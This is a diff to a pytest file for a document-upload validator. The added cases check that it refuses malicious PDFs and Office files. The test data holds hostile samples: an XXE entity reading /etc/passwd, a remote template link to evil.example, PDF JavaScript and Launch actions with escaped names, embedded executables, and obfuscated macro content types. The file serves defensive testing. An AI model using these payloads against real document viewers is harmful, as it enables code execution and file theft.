@@ -5,6 +5,7 @@ import zipfile
 import zlib
 from io import BytesIO
 
+import pypdfium2 as pdfium
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
@@ -17,6 +18,20 @@ from tests.factories.media import archive, odf_files, office_files, ole, pdf, up
 
 XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
 RELS = '<Relationship Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>'
+
+
+LINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+
+
+def related(kind: str, target: str, mode: str = "Internal") -> str:
+    return f'<Relationships><Relationship Type="{LINK}{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
+
+
+def typed(content_type: str, more: str = "") -> bytes:
+    """A DOCX that says that it holds something of this type besides."""
+    files = office_files()
+    override = f'<Override PartName="/word/x.bin" ContentType="{content_type}"/>{more}</Types>'
+    return archive({**files, "[Content_Types].xml": files["[Content_Types].xml"].replace("</Types>", override)})
 
 
 def refused(name: str, data: bytes) -> str:
@@ -128,6 +143,13 @@ PACKED = zlib.compress(b"1 0 2 50 << /S /JavaScript /JS (app.alert) >>")
         (b"/OpenAction << /S /Launch /F (cmd.exe) >>", b""),
         (b"/AA << /O << /S /J#61vaScript /JS 9 0 R >> >>", b""),
         (b"/Names << /JavaScript 9 0 R >>", b""),
+        (b"/X [\n%stream\n] /OpenAction << /S /JavaScript /JS (x) >>\n%endstream\n", b""),
+        (b"/X [\n%stream\n] /OpenAction << /S /#4Caunch /F (a.exe) >>\n%endstream\n", b""),
+        (b"/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>] >> >>", b""),
+        (b"/AcroForm << /Fields [] /XFA 4 0 R >>", b""),
+        (b"/AcroForm << /Fields [] /XFA [(a) 4 0 R] >>", b""),
+        (b"/OpenAction 6 0 R", b"%stream\n<< /S /Rendition /JS (x) >>\n%endstream"),
+        (b"/X 6 0 R", b"%stream\n<< /Subtype /RichMedia >>\n%endstream"),
         (b"", b"<< /Type /ObjStm /N 1 /First 4 /Length %d >>\nstream\n%s\nendstream" % (len(PACKED), PACKED)),
     ],
 )
@@ -153,6 +175,14 @@ def test_pdf_with_a_password_is_refused_with_that_reason():
     assert refused("a.pdf", data) == "encrypted"
 
 
+def test_pdf_that_cannot_be_written_anew_is_refused(monkeypatch):
+    def fail(*_arguments, **_options):
+        raise pdfium.PdfiumError("no")
+
+    monkeypatch.setattr(pdfium.PdfDocument, "save", fail)
+    assert refused("a.pdf", pdf()) == "broken"
+
+
 # --- Archives ---
 
 
@@ -163,7 +193,23 @@ def test_pdf_with_a_password_is_refused_with_that_reason():
         docx(**{"word__vbaData.xml": b"<x/>"}),
         docx(**{"word__activeX__activeX1.bin": b"x"}),
         docx(**{"word___rels__settings.xml.rels": RELS}),
-        archive({**office_files(), "[Content_Types].xml": "application/vnd.ms-word.document.macroEnabled.main+xml"}),
+        docx(**{"word___rels__conf.xml.rels": RELS}),
+        docx(**{"word___rels__conf.XML.RELS": RELS}),
+        docx(**{"word___rels__conf.xml.rels": f'<?xml version="1.0" encoding="utf-16"?>{RELS}'.encode("utf-16")}),
+        docx(**{"word___rels__conf.xml.rels": RELS.replace("External", "Externa&#108;")}),
+        docx(**{"word___rels__conf.xml.rels": RELS.replace("attachedTemplate", "attached&#84;emplate/")}),
+        docx(**{"word___rels__document.xml.rels": related("image", "http://evil.example/a.png", "External")}),
+        docx(**{"word___rels__document.xml.rels": related("oleObject", "embeddings/a.bin")}),
+        docx(**{"word___rels__document.xml.rels": related("OLEOBJECT", "a.png")}),
+        docx(**{"word___rels__document.xml.rels": related("package", "media/a.xlsx")}),
+        docx(**{"xl___rels__workbook.xml.rels": related("externalLink", "externalLinks/externalLink1.xml")}),
+        docx(**{"word___rels__document.xml.rels": related("aFChunk", "a.htm")}),
+        docx(**{"word___rels__document.xml.rels": related("vbaProject", "pictures.png")}),
+        docx(**{"word__embeddings__oleObject1.bin": b"x"}),
+        typed("application/vnd.ms-word.document.macroEnabled.main+xml"),
+        typed("application/vnd.ms-office.vba&#80;roject"),
+        typed("application/vnd.ms-word.document.macro&#69;nabled.main+xml", more="<!-- document.main+xml -->"),
+        typed("application/vnd.openxmlformats-officedocument.oleObject"),
     ],
 )
 def test_macros_are_refused(data):
@@ -174,6 +220,7 @@ def test_macros_in_other_formats_are_refused():
     assert refused("a.odt", archive({**odf_files(), "Basic/Standard/Module1.xml": "<x/>"})) == "active"
     assert refused("a.doc", ole("WordDocument", "Macros", "VBA")) == "active"
     assert refused("a.xls", ole("Workbook", "_VBA_PROJECT_CUR")) == "active"
+    assert refused("a.doc", ole("WordDocument", "ObjectPool", "\x01Ole10Native")) == "active"
     assert refused("a.rtf", b"{\\rtf1 {\\object\\objemb{\\*\\OBJDATA 0105}}}") == "active"
 
 
@@ -222,9 +269,38 @@ def test_symbolic_links_and_doubled_names_are_refused():
     assert refused("a.docx", out.getvalue()) == "unsafe_paths"
 
 
-@pytest.mark.parametrize("xml", [XXE.encode(), XXE.encode("utf-16")])
-def test_xml_with_declarations_is_refused(xml):
-    assert refused("a.docx", docx(**{"word__footnotes.xml": xml})) == "dtd"
+FAR = XXE.replace("<!DOCTYPE", f"<!-- {'x' * 200_000} --><!DOCTYPE")
+
+
+@pytest.mark.parametrize("xml", [XXE.encode(), XXE.encode("utf-16"), FAR.encode(), FAR.encode("utf-16")])
+@pytest.mark.parametrize("name", ["word__footnotes.xml", "word__footnotes.dat", "word___rels__x.rels"])
+def test_xml_with_declarations_is_refused(name, xml):
+    assert refused("a.docx", docx(**{name: xml})) == "dtd"
+
+
+def test_what_office_programs_write_is_taken():
+    links = related("hyperlink", "https://example.kg/", "External") + f"<!-- {'x' * 5000} -->"
+    usual = {
+        "word___rels__document.xml.rels": links,
+        "word__media__image1.png": b"\x89PNG <!DOCTYPE",
+        "word__media__broken.bin": b"<<not xml",
+        "customXml__item1.xml": '<?xml version="1.0" encoding="utf-16"?><a/>'.encode("utf-16"),
+        "word__empty.xml": b"",
+    }
+    assert check_document(upload("a.docx", docx(**usual))).facts.kind == "docx"
+
+
+@pytest.mark.parametrize(
+    "parts",
+    [
+        {"word___rels__x.rels": b"<Relationships>"},
+        {"word__x.xml": b"no xml"},
+        {"word__x.xml": b"<!--" + b" " * (1024 * 1024)},
+        {"word___rels__x.rels": b"<Relationships/>" + b" " * (4 * 1024 * 1024)},
+    ],
+)
+def test_parts_that_cannot_be_read_are_refused(parts):
+    assert refused("a.docx", docx(**parts)) == "broken"
 
 
 def test_a_damaged_archive_is_refused_clearly():
